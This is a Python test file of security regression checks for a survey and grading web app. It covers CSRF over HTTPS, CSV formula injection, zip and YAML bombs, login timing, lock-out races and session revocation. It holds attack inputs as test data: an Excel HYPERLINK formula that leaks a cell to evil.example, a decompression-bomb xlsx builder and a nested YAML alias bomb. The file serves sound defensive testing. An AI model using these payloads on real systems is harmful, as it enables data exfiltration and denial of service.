"""Security corners, each once a bug: no POST over HTTPS (Flask-WTF wanted a Referer the site forbids),
roster names as live formulas in grades.csv and the codes CSV, a score file inflating to 70 MB, a
login whose time told which usernames exist, and a YAML alias bomb."""
from __future__ import annotations

import csv
import io
import zipfile

import pandas as pd
import pytest
from sqlalchemy import select, update

from survey_app.extensions import db
from survey_app.services import tokens
from survey_app.services.sheets import sheet_definition
from tests.conftest import CSRF, Staff, Voter, make_staff
from tests.factories import full_answers, open_campaign

pytestmark = pytest.mark.db

FORMULA = ("=", "+", "-", "@")
HTTPS = "https://pingyi.example.gov.cn"


# --------------------------------------------------------------------------- HTTPS and CSRF

def test_a_ballot_sent_over_https_is_counted_although_the_site_forbids_referers(app):
    """Flask-WTF's WTF_CSRF_SSL_STRICT (on by default) refuses every HTTPS POST without a Referer,
    and the site's own Referrer-Policy: no-referrer (header and <meta>) tells browsers to send none.
    Behind nginx with HTTPS (PINGYI_PROXY_COUNT=1, X-Forwarded-Proto: https) no vote can be cast."""
    _, sheets = open_campaign()
    code = tokens.display(tokens.issue_tokens(sheets["V1"], 1).codes[0])
    q, subjects = sheet_definition(sheets["V1"])
    phone = Voter(app).client
    page = phone.get(f"/t/{code}", base_url=HTTPS)
    assert page.status_code == 200
    assert page.headers["Referrer-Policy"] == "no-referrer"  # so a browser sends no Referer with the form
    hidden = dict(Voter.HIDDEN.findall(page.get_data(as_text=True)))
    response = phone.post(f"/t/{code}", base_url=HTTPS, data={**hidden, **full_answers(q, subjects)})
    assert response.status_code == 200, (response.status_code, "the vote was refused as an expired page")
    assert 'id="done"' in response.get_data(as_text=True)


def test_staff_can_sign_in_over_https_although_the_site_forbids_referers(app):
    from survey_app.services.users import create_user

    create_user("https-admin", "https-admin-password", "admin")
    staff = Staff(app)
    with staff.get("/admin/login", base_url=HTTPS) as page:
        token = CSRF.search(page.get_data(as_text=True)).group(1)
    response = staff.post("/admin/login", base_url=HTTPS, data={
        "csrf_token": token, "username": "https-admin", "password": "https-admin-password"})
    assert response.status_code == 302, response.status_code


# --------------------------------------------------------------------------- formula injection

def test_grades_csv_does_not_hand_a_roster_name_to_excel_as_a_formula(tmp_path):
    """`pingyi grade --out` writes grades.csv with the organisation's (or person's) name, straight
    from the roster import, through DataFrame.to_csv without csv_safe."""
    from analysis.grading import grade
    from forms.loader import builtin_library
    from survey_app.services.ledger_files import write_grades
    from survey_app.specs import grading_spec

    library = builtin_library()
    spec = grading_spec(library["baishan_village_stars"], library)
    evil = '=HYPERLINK("http://evil.example/?leak="&A1,"查看")'
    frame = pd.DataFrame({"subject": ["V01", "V04"], "name": [evil, "北村"], "parent": ["T1", "T1"],
                          "checklist": [86.5, 58.0], "satisfaction": [99.8, 80.0]})
    write_grades(tmp_path, grade(frame, spec), pd.DataFrame())
    with (tmp_path / "grades.csv").open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.DictReader(handle))
    names = [row["name"] for row in rows]
    assert not any(n.startswith(FORMULA) for n in names), names


def test_the_codes_csv_does_not_hand_an_organisation_name_to_excel_as_a_formula(app, tmp_path):
    """The mail-merge CSV (`pingyi issue … --codes`) writes the sheet title, which starts with the
    village's name from the roster, without csv_safe. (The title always ends in a fixed suffix,
    "·<questionnaire>（<group>）", which limits what a formula there can do.)"""
    from survey_app.models import Organisation
    from survey_app.services import campaigns
    from survey_app.services.slips import issue_with_slips

    town = Organisation(code="T9", name="九镇", kind="town")
    db.session.add(town)
    db.session.add(Organisation(code="T9V1", name="=2+3", kind="village", parent=town))
    db.session.flush()
    c = campaigns.create_campaign("f2026", "公式测试", 2026, scheme_key="baishan_village_stars")
    (sheet,) = campaigns.add_sheets_for(c, "village_satisfaction", "masses", town)
    issue_with_slips(sheet, 2, actor="test", pdf=tmp_path / "slips.pdf", codes_csv=tmp_path / "codes.csv")
    with (tmp_path / "codes.csv").open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.reader(handle))[1:]
    titles = [row[2] for row in rows]
    assert titles and not any(t.startswith(FORMULA) for t in titles), titles


# --------------------------------------------------------------------------- zip bomb

class Inflated(BaseException):
    """Raised by the test's zip reader once the app has inflated far more than any real upload."""


def _bomb(uncompressed_mb: int) -> bytes:
    """A valid .xlsx (the score template's headers) whose sheet inflates to ``uncompressed_mb``."""
    from openpyxl import Workbook

    book = Workbook()
    book.active.append(["组织编码", "指标编码", "得分"])
    plain = io.BytesIO()
    book.save(plain)
    source = zipfile.ZipFile(io.BytesIO(plain.getvalue()))
    out = io.BytesIO()
    row = b'<row><c t="inlineStr"><is><t>T1V1</t></is></c><c t="inlineStr"><is><t>x</t></is></c></row>'
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as target:
        for info in source.infolist():
            if info.filename != "xl/worksheets/sheet1.xml":
                target.writestr(info, source.read(info.filename))
                continue
            with target.open(info.filename, "w", force_zip64=True) as sheet:
                cells = "".join(f'<c t="inlineStr"><is><t>{h}</t></is></c>' for h in ("组织编码", "指标编码", "得分"))
                sheet.write(('<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxml'
                             f'formats.org/spreadsheetml/2006/main"><sheetData><row>{cells}</row>').encode())
                block = row * (1024 * 1024 // len(row))
                for _ in range(uncompressed_mb):
                    sheet.write(block)
                sheet.write(b"</sheetData></worksheet>")
    return out.getvalue()


def test_a_score_file_that_inflates_to_70_mb_is_refused_before_it_is_read(app, monkeypatch):
    """The body cap (256 KB) bounds the upload, not what openpyxl inflates from it: a 250 KB .xlsx
    whose sheet is 70 MB of rows (800,000 of them) is parsed whole, every row kept in memory, by one
    assessor's request (measured for 60 MB: 22 s and 565 MB of RAM; the admin's 20 MB roster import
    inflates ~80 times as far). The app should check the archive's declared sizes and refuse it."""
    open_campaign(villages=1)
    data = _bomb(70)
    assert len(data) < 255 * 1024, len(data)  # fits under PINGYI_MAX_BODY with the form around it
    seen = {"bytes": 0}
    real = zipfile.ZipExtFile._read1

    def counting(self, n):  # type: ignore[no-untyped-def]
        chunk = real(self, n)
        seen["bytes"] += len(chunk)
        if seen["bytes"] > 60 * 1024 * 1024:
            raise Inflated
        return chunk

    assessor = make_staff(app, "bomber", "assessor")
    token = assessor.token("/admin/campaigns/t2026/checklist")
    monkeypatch.setattr(zipfile.ZipExtFile, "_read1", counting)
    try:
        response = assessor.post("/admin/campaigns/t2026/checklist/upload", content_type="multipart/form-data",
                                 data={"csrf_token": token, "file": (io.BytesIO(data), "scores.xlsx")})
    except Inflated:
        pytest.fail(f"the app inflated more than 60 MB out of a {len(data) // 1024} KB upload")
    assert response.status_code in (413, 422), response.status_code


# --------------------------------------------------------------------------- login

def _login(staff: Staff, username: str):
    return staff.post("/admin/login", data={"csrf_token": staff.token(), "username": username,
                                            "password": "not-the-password-at-all"})


def test_a_wrong_password_costs_one_hash_check_for_an_unknown_username_as_for_a_real_one(app, monkeypatch):
    """auth.login hashed the password only when the username existed, so a wrong login for a real
    account took one scrypt (about 80 ms against 2 ms) longer: names could be enumerated without
    tripping the lock-out. Counted, not timed: every wrong login runs exactly one hash check."""
    from werkzeug import security

    from survey_app.admin import auth
    from survey_app.models import user as user_model
    from survey_app.services.users import create_user

    create_user("zhang.admin", "zhang-admin-password", "admin")
    checks = []

    def counted(hash_, password):
        checks.append(hash_)
        return security.check_password_hash(hash_, password)

    monkeypatch.setattr(auth, "check_password_hash", counted)
    monkeypatch.setattr(user_model, "check_password_hash", counted)
    staff = Staff(app)
    for name in ("zhang.admin", "nobody"):
        before = len(checks)
        assert _login(staff, name).status_code == 401
        assert len(checks) - before == 1, name
    assert checks[0].split("$")[0] == checks[1].split("$")[0], "the same kind of hash, the same cost"


# --------------------------------------------------------------------------- YAML alias bomb

def test_a_definition_of_nested_yaml_aliases_is_refused_without_expanding_them():
    """forms.yamlnodes._convert walks PyYAML's composed node graph, in which every alias is the same
    node again, without remembering nodes it has converted: ten aliases per level expand 10^depth
    times: these 353 bytes take ~4 s, one level more ~40 s. Reached only through files an
    operator hands to the CLI (`pingyi validate`, `pingyi grade --scheme`), or load_text in a notebook."""
    from forms.errors import DefinitionError
    from forms.loader import load_text

    lines = ["kind: questionnaire", "a0: &a0 [x, x, x, x, x, x, x, x, x, x]"]
    for level in range(1, 6):
        lines.append(f"a{level}: &a{level} [" + ", ".join([f"*a{level - 1}"] * 10) + "]")
    with pytest.raises(DefinitionError, match="展开后超过 200,000 个值"):
        load_text("\n".join(lines), "bomb.yaml")


# --------------------------------------------------------------------------- lock-out count

def test_a_wrong_password_is_counted_in_the_database_not_from_the_row_a_request_read(app):
    """Each request read failed_logins and wrote it back plus one: two guesses in parallel (on
    PostgreSQL) each wrote 1, so a guesser running requests side by side was never locked out."""
    from survey_app.admin.auth import MAX_FAILURES, record_failure
    from survey_app.models import User
    from survey_app.models._time import utcnow
    from survey_app.services.users import create_user

    create_user("parallel", "parallel-password-123", "admin")
    stale = db.session.scalar(select(User).where(User.username == "parallel"))  # read at 0
    with db.engine.begin() as other:  # meanwhile the other requests' guesses are counted
        other.execute(update(User).where(User.username == "parallel").values(failed_logins=MAX_FAILURES - 1))
    record_failure(stale, utcnow())
    db.session.expire_all()
    user = db.session.scalar(select(User).where(User.username == "parallel"))
    assert user.locked_until is not None and user.failed_logins == 0, "the fifth guess locks the account"


# --------------------------------------------------------------------------- signing out

def test_a_copy_of_the_session_cookie_stops_working_once_its_user_signs_out(app):
    """Sessions lived in the signed cookie alone: a copy taken before logout (a shared office PC,
    another tab) kept the account signed in for 31 days. Signing out now ends every copy."""
    staff = make_staff(app, "leaver", "admin")
    other = make_staff(app, "stayer", "admin")
    copy = Staff(app)
    cookie = staff.inner.get_cookie("session")
    copy.inner.set_cookie("session", cookie.value, domain=cookie.domain or "localhost")
    assert copy.get("/admin/campaigns").status_code == 200, "the copy works while its user is signed in"
    assert staff.post("/admin/logout", data={"csrf_token": staff.token("/admin/campaigns")}).status_code == 302
    assert copy.get("/admin/campaigns").status_code == 302, "the copy from before the sign-out signs nobody in"
    assert staff.get("/admin/campaigns").status_code == 302
    assert other.get("/admin/campaigns").status_code == 200, "another account's session is untouched"
    again = staff.login("leaver", "leaver-password-123")  # and signing in again works
    assert again.status_code == 302 and staff.get("/admin/campaigns").status_code == 200
